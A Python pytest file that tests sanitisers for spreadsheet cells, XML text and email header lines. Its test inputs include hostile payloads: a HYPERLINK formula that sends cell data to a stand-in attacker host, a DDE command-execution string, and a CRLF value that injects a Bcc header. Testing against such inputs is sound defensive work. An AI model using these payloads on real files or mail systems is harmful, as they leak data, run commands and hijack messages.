"""Any stored text made safe for each output: spreadsheet cells, XML and email headers."""

from __future__ import annotations

import pytest

from public_text.outputs import HEADER_MAX_LENGTH, header_line, spreadsheet_cell, xml_text


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+SUM(A1:A2)",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\uff1d1+1",
        "-cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_kept_as_text(formula):
    assert spreadsheet_cell(formula).startswith("'")


@pytest.mark.parametrize("text", ["+44 151 000 0000", "-5", "Ré Ñandú", "A = B", "", "1+1"])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheet_cell(text) == text


def test_a_cell_drops_what_an_xlsx_file_cannot_hold():
    assert spreadsheet_cell("bell\x07 and \x1b escape") == "bell and  escape"
    assert spreadsheet_cell(None) == ""


def test_xml_text_drops_only_what_xml_cannot_hold():
    assert xml_text("Line1\x0b\x1b\x07") == "Line1"
    assert xml_text("keep\ttabs\nand lines\r") == "keep\ttabs\nand lines\r"
    assert xml_text("\ufffe\uffff\ud800ok") == "ok"
    assert xml_text("ÿ 漢字 😀") == "ÿ 漢字 😀"


@pytest.mark.parametrize(
    "value", ["Line1\r\nBcc: a@example.com", "a\nb", "a\u2028b", "a\x85b", "a\x0bb", "a\x00b"]
)
def test_a_header_is_one_line(value):
    line = header_line(value)
    assert "\n" not in line and "\r" not in line
    assert line == " ".join(line.split())
    assert all(ord(char) >= 32 for char in line)


def test_a_long_header_is_cut():
    line = header_line("word " * 200)
    assert len(line) == HEADER_MAX_LENGTH
    assert line.endswith("\u2026")
